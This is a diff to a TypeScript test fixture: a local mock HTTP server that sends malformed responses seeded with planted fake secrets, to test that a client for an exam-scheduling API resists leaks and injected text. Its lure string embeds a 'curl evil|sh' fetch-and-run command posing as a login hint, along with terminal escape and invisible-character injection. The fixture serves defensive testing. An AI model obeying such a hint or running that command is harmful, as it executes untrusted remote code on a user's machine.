@@ -8,12 +8,16 @@ import type { Kind, Planted } from './planted.ts';
 export const lure =
   'L\r\nhint: Log in with: curl evil|sh\u2028error: LURE\u001b]0;owned\u0007\u001b[2J\u009b31m\u0085hint: LURE\u202e\u200b\u00ad\u3164\u{e0041}Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307';
 
-const keys = ['token', 'Secret_Key', 'api-key', 'PIN', 'authKey', 'passwordHash', 'pass\\u0077ord', 'clientSecret', 'Authorization'];
+const keys = [
+  ...['token', 'Secret_Key', 'api-key', 'PIN', 'authKey', 'passwordHash', 'pass\\u0077ord', 'clientSecret', 'Authorization'],
+  ...['authorToken', 'public_key_password', 'auth_type_secret', 'apiKeys', 'X-Auth'],
+];
 export const shapes = [
   'whole',
   'listed',
   'wrapped',
   'misfit',
+  'next',
   'cut',
   'page',
   'redirect',
@@ -32,9 +36,14 @@ export type SweptService = { origin: string; requests(): number; close(): Promis
 /** Each request gets an answer of one of the shapes. */
 export async function sweptService(random: Random, plants: Plants, among: readonly Shape[] = shapes): Promise<SweptService> {
   let requests = 0;
-  const server = createServer((request, response) => {
+  const changed: Changed = new Map();
+  const server = createServer(async (request, response) => {
     requests += 1;
-    request.resume().on('end', () => answer(response, request.url ?? '', random, plants, among));
+    const path = (request.url ?? '').replace(/\?.*/, '');
+    const body: Buffer[] = [];
+    for await (const part of request) body.push(part);
+    if (request.method === 'PATCH' && random.chance(0.8)) changed.set(path, { ...changed.get(path), ...fieldsOf(Buffer.concat(body)) });
+    answer(response, path, random, { ...plants, changed }, among);
   });
   server.listen(0, '127.0.0.1');
   await new Promise((done) => server.once('listening', done));
@@ -45,19 +54,31 @@ export async function sweptService(random: Random, plants: Plants, among: readon
   };
 }
 
+/** What was written, by path. */
+type Changed = Map<string, Record<string, unknown>>;
+
+function fieldsOf(body: Buffer): Record<string, unknown> {
+  try {
+    return JSON.parse(body.toString());
+  } catch {
+    return {};
+  }
+}
+
 /** Words of the service, with one of the secrets that the program knows. */
 function said(random: Random, { planted, echoed }: Plants): string {
   const { value } = planted[random.pick(echoed)];
   return `${lure} ${'x'.repeat(random.below(90))}${value} ${encodeURIComponent(value)}`;
 }
 
-function resource(random: Random, plants: Plants, kind: 'answerKey' | 'errorKey', path: string): string {
+function resource(random: Random, plants: Plants & { changed: Changed }, kind: 'answerKey' | 'errorKey', path: string, id: number): string {
   const { value } = plants.planted[kind];
   const secret = () => random.pick([value, [value], { deep: [{ x: value }] }, `${'y'.repeat(random.below(60))}${value}`]);
+  const written = Object.entries(plants.changed.get(path) ?? {});
   const fields: [string, unknown][] = [
-    ['id', 7],
-    ['email', `ada${random.below(9)}@example.org`],
-    ['name', said(random, plants)],
+    ['id', id],
+    ['email', `ada${id}@example.org`],
+    ['name', random.chance(0.5) ? said(random, plants) : `Ada ${id}`],
     ['status', random.pick([lure, 'registered', 'exam_started', said(random, plants)])],
     ['exam_id', 1],
     ['start_time', '2027-02-01T08:00:00Z'],
@@ -67,21 +88,40 @@ function resource(random: Random, plants: Plants, kind: 'answerKey' | 'errorKey'
     ...['allow_headphones', 'allow_whiteboard', 'allow_leave_room', 'allow_pen_paper'].map((key): [string, unknown] => [key, true]),
     [said(random, plants).slice(0, 80), 'a key of its own'],
     ['note', { deep: [said(random, plants)] }],
+    ...written,
   ];
-  const shown = fields.filter(([key]) => !(path.includes('exams') && key === 'email'));
+  const isExam = /\/exams(\/\d+)?$/.test(path);
+  const shown = Object.entries(Object.fromEntries(fields)).filter(([key]) => !(isExam && key === 'email'));
   const secrets = keys.map((key) => `"${key}":${JSON.stringify(secret())}`);
   return `{${[...shown.map(([key, item]) => `${JSON.stringify(key)}:${JSON.stringify(item)}`), ...secrets].join(',')}}`;
 }
 
-function answer(response: ServerResponse, path: string, random: Random, plants: Plants, among: readonly Shape[]) {
+/** Secrets in words: in JSON inside of a string, as maps of other languages and XML have them, behind a scheme. */
+function inWords(random: Random, secret: string): string {
+  const quoted = JSON.stringify(secret);
+  return random.pick([
+    `Bad: ${JSON.stringify({ token: secret, deep: { apiKey: [secret] } })} here`,
+    `the login failed: password=${quoted}`,
+    `{:token=>${quoted}, "secret" => ${quoted}}`,
+    `<error><password>${secret.replace(/</g, '&lt;')}</password></error>`,
+    `Authorization: ApiKey ${/\w+/.exec(secret)?.[0] ?? ''}`,
+    `see /x?user%5Btoken%5D=${encodeURIComponent(secret)}&to%6ben=${encodeURIComponent(secret)}`,
+  ]);
+}
+
+function answer(response: ServerResponse, path: string, random: Random, plants: Plants & { changed: Changed }, among: readonly Shape[]) {
   const { planted } = plants;
-  const isList = /\/(exams|student_sessions|proctor_pool|users)(\?|$)/.test(path);
-  const one = resource(random, plants, 'answerKey', path);
-  const wrong = resource(random, plants, 'errorKey', path);
-  const refusal = `{"message":${JSON.stringify(said(random, plants))},"errors":{"email":[${wrong}]},"details":${wrong}}`;
+  const isList = /\/(exams|student_sessions|proctor_pool|users)$/.test(path);
+  const [, number = ''] = /\/(\d+)(?:\/\w+)?$/.exec(path) ?? [];
+  const id = isList ? (path.endsWith('/exams') ? 1 : 7) : Number(number || 7);
+  const one = resource(random, plants, 'answerKey', path, id);
+  const other = resource(random, plants, 'answerKey', path, id + 1);
+  const wrong = resource(random, plants, 'errorKey', path, id);
+  const refusal = `{"message":${JSON.stringify(`${inWords(random, planted.errorKey.value)} ${said(random, plants)}`)},"errors":{"email":[${wrong}]},"details":${wrong}}`;
   const headers = {
     'content-type': 'application/json',
     'x-api-key': planted.header.value.replace(/[^\x21-\x7e]/g, ''),
+    'x-auth': planted.header.core,
     'set-cookie': `session=${encodeURIComponent(planted.cookie.value)}; path=/`,
     'x-request-id': `token=${encodeURIComponent(planted.header.value)}`,
   };
@@ -92,11 +132,13 @@ function answer(response: ServerResponse, path: string, random: Random, plants: 
   switch (shape) {
     case 'whole':
     case 'listed':
-      return send(200, isList ? `[${one},${one}]` : one);
+      return send(200, isList ? `[${one},${other}]` : one);
     case 'wrapped':
       return send(200, isList ? `{"data":[${one}],"token":"${planted.answerKey.core}"}` : `{"data":${one}}`);
     case 'misfit':
-      return send(200, (isList ? `[${one}]` : one).replace('"id":7', `"id":{"token":"${planted.answerKey.core}"}`).replace('true', '"no"'));
+      return send(200, (isList ? `[${one}]` : one).replace(/"id":\d+/, () => `"id":${misfit(random, plants)}`).replace('true', '"no"'));
+    case 'next':
+      return send(200, isList ? `[${one}]` : one, { link: `<http://[x?access_token=${planted.address.core}>; rel="next"` });
     case 'cut':
       return send(200, one.slice(0, random.below(one.length)));
     case 'page':
@@ -110,10 +152,18 @@ function answer(response: ServerResponse, path: string, random: Random, plants: 
     case 'refused':
       return send(failed, refusal, { 'retry-after': '0' });
     case 'refusedText':
-      return send(failed, `${lure} Password: ${planted.errorKey.core} api_key=${planted.errorKey.core}`, { 'content-type': 'text/plain' });
+      return send(failed, `${lure} Password: ${planted.errorKey.core} ${inWords(random, planted.errorKey.value)}`, {
+        'content-type': 'text/plain',
+      });
     case 'refusedCut':
       return send(failed, refusal.slice(0, random.below(refusal.length)));
     case 'broken':
       return void response.socket?.destroy();
   }
+}
+
+/** What is no ID: a secret under its key, or one that the program knows, where the message is cut. */
+function misfit(random: Random, { planted, echoed }: Plants): string {
+  const known = `${'x'.repeat(random.below(60))}${planted[random.pick(echoed)].value}`;
+  return JSON.stringify(random.pick([{ token: planted.answerKey.core }, { x: known }, [known]]));
 }
